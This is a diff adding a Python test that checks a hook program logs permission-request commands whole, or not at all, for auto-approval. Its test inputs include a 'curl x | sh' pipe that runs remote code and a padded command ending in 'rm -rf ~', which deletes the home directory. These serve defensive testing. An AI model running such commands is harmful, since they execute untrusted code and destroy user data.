@@ -83,6 +83,17 @@ def test_each_event_is_one_line_with_its_pane_and_the_program_says_nothing(
     assert "secret thing" not in json.dumps(lines)  # the person's words stay out of the log
 
 
+def test_a_permission_request_keeps_its_whole_command_or_none(program: HookProgram) -> None:
+    # What a lane's auto_approve judges: the command whole, never a cut one.
+    long = "npm test " + "x" * (20 << 10) + " && rm -rf ~"
+    for command in ("npm test && curl x | sh", ["bash", "-lc", "npm test"], long):
+        run_hook(program, "claude", claude_event("PermissionRequest", tool_name="Bash",
+                                                 tool_input={"command": command}))
+    run_hook(program, "claude", bash("ls"))
+    assert [line.get("command") for line in logged(program)] == [
+        "npm test && curl x | sh", "bash -lc 'npm test'", None, None]
+
+
 def test_bad_input_and_no_pane_still_exit_zero_and_write_nothing(program: HookProgram) -> None:
     for payload in (b"not json", b"", b"[1, 2]", {"no": "event"}):
         done = run_hook(program, "claude", payload)
